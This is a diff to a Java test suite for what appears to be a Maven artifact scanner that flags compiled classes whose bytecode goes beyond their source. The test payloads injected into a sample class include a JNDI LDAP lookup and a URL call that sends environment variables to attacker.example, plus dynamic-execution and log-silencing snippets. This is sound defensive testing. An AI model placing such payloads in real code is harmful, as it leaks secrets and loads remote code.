@@ -969,7 +969,8 @@ class MavenScanTest {
             "static { try { new javax.naming.InitialContext().lookup(\"ldap://attacker.example/x\"); } catch (Exception e) { } }",
             "static { try { new java.net.URL(\"https://attacker.example/\" + System.getenv()).openStream(); }"
                     + " catch (Exception e) { } }",
-            "static { try { new java.net.Socket(\"attacker.example\", 443).close(); } catch (Exception e) { } }"})
+            "static { try { new java.net.Socket(\"attacker.example\", 443).close(); } catch (Exception e) { } }",
+            "static { jdk.jshell.JShell.create().eval(\"1\"); }"})
     void aClassWhoseCodeUsesAnApiItsSourceDoesNotNameIsHighRiskNotCompiledFromSource(String payload) throws Exception {
         Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Greeter.java",
                 GREETER.replace("public class Greeter {\n", "public class Greeter {\n    " + payload + "\n")), "--release", "11");
@@ -980,6 +981,28 @@ class MavenScanTest {
         assertTrue(f.riskFlags().contains(dev.divergence.model.RiskFlag.DYNAMIC_EXEC), f.riskFlags().toString());
         assertTrue(f.highRisk());
         assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
+
+    /**
+     * Fail-closed beside the deny-list: a class whose code reaches what no harmful-API list holds (a service loaded
+     * and run, a method handle lookup, a method of its own the source lacks) while its source names none of it is not
+     * compiled from that source — DIVERGENT, never EXPLAINED.
+     */
+    @ParameterizedTest
+    @ValueSource(strings = {
+            "static { try { java.lang.invoke.MethodHandles.publicLookup(); } catch (Exception e) { } }",
+            "static { java.util.ServiceLoader.load(Runnable.class).forEach(Runnable::run); }",
+            "static final Runnable R = Greeter::touch; static void touch() { }",
+            "static { java.util.logging.Logger.getLogger(\"x\").setLevel(java.util.logging.Level.OFF); }"})
+    void aClassReachingWhatItsSourceNeverNamesIsDivergentNotCompiledFromSource(String payload) throws Exception {
+        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Greeter.java",
+                GREETER.replace("public class Greeter {\n", "public class Greeter {\n    " + payload + "\n")), "--release", "11");
+        ArtifactReport a = artifact(scanJar(greeterTree("org/acme/Greeter.java", GREETER), "3.0.0", classes), ".jar");
+        FileDivergence f = row(a, "org/acme/Greeter.class");
+        assertEquals(FileStatus.MODIFIED, f.status(), payload);
+        assertEquals(MavenGeneratedFiles.CLASS_REFERENCES_BEYOND_SOURCE, f.ruleId(), payload);
+        assertTrue(f.riskFlags().contains(dev.divergence.model.RiskFlag.CODE), f.riskFlags().toString());
+        assertEquals(Verdict.DIVERGENT, a.verdict());
     }
 
     /**
@@ -1023,6 +1046,50 @@ class MavenScanTest {
         assertEquals(FileStatus.GENERATED, f.status(), f.detail().toString());
         assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, f.ruleId());
         assertEquals(Verdict.EXPLAINED, a.verdict());
+    }
+
+    /**
+     * What javac writes for constructs the source has without naming it (string concatenation, boxing, enhanced for,
+     * try-with-resources, enum, string and pattern switches, assertions, lambdas and method references, inner,
+     * anonymous and local classes, {@code int.class}, class literals, visibility bridges): no reference beyond the
+     * source.
+     */
+    @ParameterizedTest
+    @ValueSource(strings = {"8", "11", "17"})
+    void whatJavacSynthesisesForTheSourcesConstructsIsNotBeyondIt(String release) throws Exception {
+        String sugar = "package org.acme;\n\nimport java.io.*;\nimport java.util.*;\nimport java.util.function.*;\n\n"
+                + "public class Sugar extends Base implements Serializable {\n    enum Color { RED, GREEN { public String toString() { return \"g\"; } } }\n"
+                + "    private int secret = 1;\n    class Inner { int peek() { return secret; } }\n"
+                + "    static String all(List<Integer> xs, Color c, String s, Object o, long l, char ch) throws IOException {\n"
+                + "        StringBuilder out = new StringBuilder();\n        int sum = 0;\n"
+                + "        for (Integer x : xs) { sum += x; }\n        Integer boxed = sum;\n        Long big = l;\n"
+                + "        Map<String, Boolean> m = new HashMap<>();\n        m.put(s, true);\n        boolean b = m.get(s);\n"
+                + "        switch (c) { case RED: sum++; break; default: sum--; }\n"
+                + "        switch (s) { case \"a\": sum++; break; case \"b\": sum--; break; default: }\n"
+                + "        assert sum > 0 : \"sum \" + sum;\n"
+                + "        try (Reader r = new StringReader(s)) { sum += r.read(); }\n"
+                + "        Runnable run = () -> out.append(ch);\n        run.run();\n"
+                + "        Function<String, Integer> len = String::length;\n        Supplier<List<String>> mk = ArrayList::new;\n"
+                + "        IntFunction<String[]> arr = String[]::new;\n        Supplier<String> bound = o::toString;\n"
+                + "        Runnable anon = new Runnable() { public void run() { out.append(boxed); } };\n"
+                + "        class Local { int twice() { return 2 * len.apply(s); } }\n"
+                + "        Sugar sugar = new Sugar();\n        Sugar.Inner inner = sugar.new Inner();\n"
+                + "        Class<?> k = int.class;\n        Class<?> kk = Sugar.class;\n        Color[] all = Color.values();\n"
+                + "        Color red = Color.valueOf(\"RED\");\n        Object[] objs = {s, ch, l};\n"
+                + "        out.append(\"x\" + sum + ch + l + o + b + big + k + kk + all.length + red + inner.peek()"
+                + " + new Local().twice() + mk.get() + arr.apply(1).length + bound.get());\n"
+                + "        return out.toString() + objs.length + (o == null ? \"\" : \"\" + o.hashCode());\n    }\n}\n";
+        // a public class over a package-private one: javac bridges Base's public method in Sugar, which never names it
+        String base = "package org.acme;\n\nabstract class Base {\n    public String sort(String s) { return s; }\n}\n";
+        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Sugar.java", sugar, "org/acme/Base.java", base),
+                "--release", release);
+        ArtifactReport a = artifact(scanJar(greeterTree("org/acme/Sugar.java", sugar, "org/acme/Base.java", base), "3.0.0",
+                classes), ".jar");
+        for (String p : classes.keySet()) {
+            FileDivergence f = row(a, p);
+            assertEquals(FileStatus.GENERATED, f.status(), p + " " + f.detail());
+        }
+        assertEquals(Verdict.EXPLAINED, a.verdict(), classes.keySet().toString());
     }
 
     @Test
